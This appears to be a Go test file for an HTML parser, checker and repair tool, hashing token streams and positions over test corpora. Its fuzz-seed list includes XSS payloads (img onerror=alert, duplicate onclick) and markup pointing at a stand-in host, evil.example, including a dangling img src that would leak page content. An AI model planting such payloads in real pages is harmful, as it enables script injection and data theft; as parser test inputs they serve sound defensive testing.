package conformance

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"hash"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/hvscan/hvscan/internal/autofix"
	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/htmlparse"
)

// positionDigestFile holds the SHA-256 of every printed position the
// checker, the parser and the repair engine produce over the pinned
// inputs (see TestPositionDigest).
const positionDigestFile = "testdata/position_digest.sha256"

// fixCorpusPages returns the input of every golden fix-corpus case.
func fixCorpusPages(t *testing.T) []snapshotPage {
	t.Helper()
	files, err := filepath.Glob(filepath.Join("..", "autofix", "testdata", "*.fix"))
	if err != nil || len(files) == 0 {
		t.Fatalf("fix corpus missing: %v", err)
	}
	var pages []snapshotPage
	for _, path := range files {
		cases, err := autofix.ParseFixFile(path)
		if err != nil {
			t.Fatal(err)
		}
		for i := range cases {
			pages = append(pages, snapshotPage{cases[i].ID(), []byte(cases[i].Data)})
		}
	}
	return pages
}

// TestPositionDigest pins every position the program prints: over the
// conformance corpus, the seed-29 snapshot and the fix corpus, it hashes
// each finding of Checker.Check (rule, offset, line, col, evidence), each
// parse error of Parse (code, offset, line, col) and each fix of
// autofix.Repair (rule, offset, line, col). A change to how positions are
// stored or resolved must leave the digest as it is.
func TestPositionDigest(t *testing.T) {
	var pages []snapshotPage
	forEachCorpusCase(t, func(id string, input []byte) {
		pages = append(pages, snapshotPage{id, input})
	})
	pages = append(pages, snapshotPages()...)
	pages = append(pages, fixCorpusPages(t)...)

	h := sha256.New()
	checker := core.NewChecker()
	var findings, errs, fixes int
	for _, p := range pages {
		fmt.Fprintf(h, "page %s\n", p.id)
		rep, err := checker.Check(p.body)
		if err != nil {
			fmt.Fprintf(h, "check error %v\n", err)
			continue
		}
		for _, f := range rep.Findings {
			fmt.Fprintf(h, "finding %s %s %q\n", f.RuleID, printed(f.Pos), f.Evidence)
		}
		findings += len(rep.Findings)
		res, err := htmlparse.Parse(p.body)
		if err != nil {
			t.Fatalf("%s: Check accepted what Parse rejects: %v", p.id, err)
		}
		pos := make([]htmlparse.Position, len(res.Errors))
		for i, e := range res.Errors {
			pos[i].Offset = e.Pos
		}
		htmlparse.ResolvePositions(res.Input, pos, func(p *htmlparse.Position) *htmlparse.Position { return p })
		for i, e := range res.Errors {
			fmt.Fprintf(h, "error %s %s\n", e.Code, printed(pos[i]))
		}
		errs += len(res.Errors)
		r, err := autofix.Repair(p.body)
		if err != nil {
			t.Fatalf("%s: repair rejected the page: %v", p.id, err)
		}
		for _, f := range r.Applied {
			fmt.Fprintf(h, "fix %s %s\n", f.RuleID, printed(f.Pos))
		}
		fixes += len(r.Applied)
	}
	if findings == 0 || errs == 0 || fixes == 0 {
		t.Fatalf("vacuous digest: %d findings, %d parse errors, %d fixes", findings, errs, fixes)
	}
	checkDigest(t, h, positionDigestFile)
	t.Logf("%d pages: %d findings, %d parse errors, %d fixes", len(pages), findings, errs, fixes)
}

// tokenDigestFile holds the SHA-256 of every token and parse error a
// standalone tokenizer produces over the pinned inputs (see
// TestTokenStreamDigest).
const tokenDigestFile = "testdata/token_digest.sha256"

// tokenDigestStates pairs each html5lib initial state with the tag whose
// end tag closes it.
var tokenDigestStates = []struct{ state, lastStartTag string }{
	{"Data state", ""},
	{"RCDATA state", "title"},
	{"RAWTEXT state", "style"},
	{"Script data state", "script"},
	{"PLAINTEXT state", ""},
	{"CDATA section state", ""},
}

// tokenizerFuzzSeeds repeats the literal seeds of htmlparse's fuzz_test.go
// (fuzzSeeds, without its hostile shapes, which hostileShapes repeats):
// test files of one package cannot be imported by another.
var tokenizerFuzzSeeds = []string{
	"",
	"plain text",
	"<!DOCTYPE html><html><head><title>t</title></head><body><p>x</p></body></html>",
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<form action="https://evil.example"><input type="submit"><textarea>`,
	`<img src='http://evil.example/?content=`,
	`<script src="https://evil.example/x.js" inj="`,
	`<p <body onload="checkSecurity()">`,
	`<table><tr><strong>x</strong></tr></table>`,
	`<img/src="x"/onerror="alert('XSS')">`,
	`<img src="users/injection"onerror="alert('XSS')">`,
	`<div id="injection" onclick="evil()" onclick="benign()">`,
	"<svg><desc><div>breakout</div></svg>",
	"<select><option><p id=private>secret</p></select>",
	"<!--<!-- nested --><![CDATA[x]]><?pi?>",
	"<script><!--<script></script>--></script>",
	"&amp;&#x41;&notin;&not;&bogus;&#xD800;&#1114112;",
	"<a b='c\x00d'>\x00",
	"<title>&amp;</title><textarea>\nx</textarea><plaintext>rest",
	"<html lang=a><html lang=b><body x=1><body y=2>",
}

// TestTokenStreamDigest pins the tokenizer's whole output: over the
// conformance corpus, the fix corpus, the fuzz seeds and the seed-29
// snapshot, it runs a standalone tokenizer from each html5lib initial
// state and hashes every field of every token (attributes with their raw
// value, quote, duplicate flag and position) and every parse error. A
// change to how the tokenizer is written must leave the digest as it is.
func TestTokenStreamDigest(t *testing.T) {
	var pages []snapshotPage
	forEachCorpusCase(t, func(id string, input []byte) {
		pages = append(pages, snapshotPage{id, input})
	})
	pages = append(pages, fixCorpusPages(t)...)
	for i, s := range tokenizerFuzzSeeds {
		pages = append(pages, snapshotPage{fmt.Sprintf("fuzz seed %d", i), []byte(s)})
	}
	for _, s := range hostileShapes {
		pages = append(pages, snapshotPage{s.name, []byte(s.prefix + strings.Repeat(s.unit, 1<<10/len(s.unit)) + s.suffix)})
	}
	pages = append(pages, snapshotPages()...)

	h := sha256.New()
	var tokens, errs int
	for _, p := range pages {
		pre, err := htmlparse.Preprocess(p.body)
		if err != nil {
			fmt.Fprintf(h, "page %s: %v\n", p.id, err)
			continue
		}
		for _, st := range tokenDigestStates {
			fmt.Fprintf(h, "page %s @%s\n", p.id, st.state)
			z := htmlparse.NewTokenizer(pre.Input)
			if !z.SetTestState(st.state, st.lastStartTag) {
				t.Fatalf("unknown initial state %q", st.state)
			}
			for {
				tok := z.Next()
				fmt.Fprintf(h, "%#v\n", tok)
				if tok.Type == htmlparse.EOFToken {
					break
				}
				tokens++
			}
			for _, e := range z.Errors() {
				fmt.Fprintf(h, "%#v\n", e)
			}
			errs += len(z.Errors())
		}
	}
	if tokens == 0 || errs == 0 {
		t.Fatalf("vacuous digest: %d tokens, %d parse errors", tokens, errs)
	}
	checkDigest(t, h, tokenDigestFile)
	t.Logf("%d pages: %d tokens, %d parse errors", len(pages), tokens, errs)
}

// printed renders a position as offset, line and column.
func printed(p htmlparse.Position) string {
	return fmt.Sprintf("@%d %d:%d", p.Offset, p.Line, p.Col)
}

// checkDigest compares h's sum with the hex digest checked in at path.
func checkDigest(t *testing.T, h hash.Hash, path string) {
	t.Helper()
	got := hex.EncodeToString(h.Sum(nil))
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read %s: %v (digest is %s)", path, err, got)
	}
	if w := strings.TrimSpace(string(want)); got != w {
		t.Fatalf("digest changed:\n got  %s\n want %s (%s)", got, w, path)
	}
}
